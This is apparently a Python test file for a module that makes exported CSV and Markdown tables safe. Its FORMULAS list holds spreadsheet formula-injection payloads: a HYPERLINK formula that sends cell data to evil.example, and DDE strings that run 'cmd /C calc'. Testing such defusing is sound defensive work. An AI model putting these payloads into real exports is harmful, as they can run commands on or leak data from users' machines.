"""Tables as CSV and as Markdown, and what hostile cells become in them."""

import csv
import io
import re
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daily_papers.site.views.text_tables import Defusing, csv_text, defused, markdown, one_line

# Text that holds what the tests are about more often than chance would.
CELLS = st.lists(
    st.sampled_from(list("=+-@'\"\t\r\n ,;|\\`*_[]()<>&#é漢🤗\0\u202e") + ["-1", "0.5", "\r\n"])
    | st.text(max_size=5)
).map("".join)
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\t1",
    "\rx",
    "\nx",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "-",
    "-5 %",
    "--flag",
    "+1-800",
    "-inf+1",
]
HARMLESS = ["", "a", "a=b", "1-2", "'=1", "-0.5", "+3", "-.5", "-1e-05", "+1.", "-inf", "−1", "²=x"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert defused(text) == f"'{text}"


def test_what_formats_text_hides_no_formula() -> None:
    letters = map(chr, range(sys.maxunicode + 1))
    formats = [letter for letter in letters if unicodedata.category(letter) == "Cf"]
    assert len(formats) > 100
    assert [letter for letter in formats if not defused(f"{letter}=1").startswith("'")] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_other_text_stay(text: str) -> None:
    assert defused(text) == text


@given(CELLS)
def test_defusing_twice_is_defusing_once(text: str) -> None:
    assert defused(defused(text)) == defused(text)


def test_csv_has_a_header_crlf_nothing_for_none_and_whole_floats_without_point() -> None:
    rows = [["a, b", 1, 2.0, None], ['"c"', -0.5, -3.0, 1e300]]
    assert csv_text(["name", "n", "x", "y"], rows) == (
        'name,n,x,y\r\n"a, b",1,2,\r\n"""c""",-0.5,-3,1e+300\r\n'
    )


def test_headers_are_defused_too_and_numbers_are_not() -> None:
    assert csv_text(["=x", "y"], [["-1", -1]]) == "'=x,y\r\n-1,-1\r\n"


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=4))
def test_csv_is_read_back_as_it_was_but_for_apostrophes(rows: list[list[str]]) -> None:
    written = csv_text(["a", "b"], rows)
    assert read(written) == [["a", "b"], *([defused(cell) for cell in row] for row in rows)]


def streamed(data: bytes, cuts: list[int]) -> bytes:
    stream = Defusing()
    offsets = [0, *sorted(cut % (len(data) + 1) for cut in cuts), len(data)]
    pieces = [stream.feed(data[a:b]) for a, b in zip(offsets, offsets[1:], strict=False)]
    return b"".join(pieces) + stream.end()


@given(
    st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4),
    st.lists(st.integers(0, 10_000), max_size=20),
)
def test_a_stream_in_any_pieces_is_defused(rows: list[list[str]], cuts: list[int]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    safe = streamed(out.getvalue().encode(), cuts)
    assert read(safe.decode()) == [[defused(cell) for cell in row] for row in rows]
    assert streamed(safe, cuts) == safe


@given(st.binary(), st.lists(st.integers(0, 10_000), max_size=5))
def test_any_bytes_come_through_a_stream(data: bytes, cuts: list[int]) -> None:
    safe = streamed(data, cuts)
    assert streamed(safe, []) == safe
    if not re.search(rb"[-=+@\t\r\n]|\xef\xbc", data):
        assert safe == data


def test_records_without_formulas_stay_byte_for_byte() -> None:
    data = 'a,"b"\n"c\nd", "x"\r\n\r\n"",é漢🤗\r\n-1,\xff'.encode()
    assert streamed(data, list(range(len(data)))) == data
    assert streamed(b'"b",c\n"=d", e\n"f",g', [3]) == b'"b",c\n\'=d, e\n"f",g'


def test_a_stream_gives_each_record_when_it_ends() -> None:
    stream = Defusing()
    assert stream.feed(b'a,b\r\n"=x\r\n') == b"a,b\r\n"
    assert stream.feed(b'y",z\r') == b""
    assert stream.feed(b"\n=") == b'"\'=x\r\ny",z\r\n'
    assert stream.end() == b"'="


def test_a_cell_can_be_longer_than_csv_reads_by_default() -> None:
    long = "=" + "x" * 200_000
    assert streamed(f"{long}\r\n".encode(), []) == f"'{long}\r\n".encode()


def cells(line: str) -> list[str]:
    """Read a line of a Markdown table as GitHub does: cut at bare pipes, backslashes taken off."""
    parts = re.sub(r"\\(.)", lambda match: chr(0xE000 + ord(match[1])), line).split("|")
    return [
        re.sub("[\ue000-\uf8ff]", lambda match: chr(ord(match[0]) - 0xE000), part).strip()
        for part in parts[1:-1]
    ]


def test_markdown_is_a_github_table() -> None:
    written = markdown(["Paper", "Speedup"], [["S²FT", 2.0], [None, -0.5]])
    assert written == "| Paper | Speedup |\n| --- | --- |\n| S²FT | 2 |\n|  | -0.5 |\n"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a|b", r"a\|b"),
        ("a\\|b", r"a\\\|b"),
        ("[x](http://a.b)", r"\[x\](http\://a.b)"),
        ("![x](y)", r"!\[x\](y)"),
        ("<script>", r"\<script\>"),
        ("&lt;b&gt;", r"\&lt;b\&gt;"),
        ("`code` *em* _em_ ~~no~~", r"\`code\` \*em\* \_em\_ \~\~no\~\~"),
        ("# no\nheading", r"\# no heading"),
        ("https://a.b www.a.b", r"https\://a.b www\.a.b"),
        ("WWW.a.b", r"WWW\.a.b"),
        ("$x$ {{ x }}", r"\$x\$ \{\{ x \}\}"),
        # GitHub makes links and mentions of these behind a backslash too.
        ("me@evil.example @team #12", "me\\@\u2060evil.example \\@\u2060team \\#\u206012"),
        ("a\0b\x1b\u202ec", "abc"),
    ],
)
def test_markup_in_markdown_shows_as_text(text: str, written: str) -> None:
    assert markdown([text], []) == f"| {written} |\n| --- |\n"


@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=4))
def test_markdown_has_a_line_a_row_and_every_cell(rows: list[list[str]]) -> None:
    _, _, *lines = markdown(["a", "b"], rows).splitlines()
    visible = [[cell.replace("\u2060", "") for cell in cells(line)] for line in lines]
    assert visible == [[one_line(cell) for cell in row] for row in rows]
    bare = (line.replace("\\\\", "") for line in lines)
    assert not any(re.search(r"(?<!\\)[`*_\[\]<>~$&@#{}]", line) for line in bare)
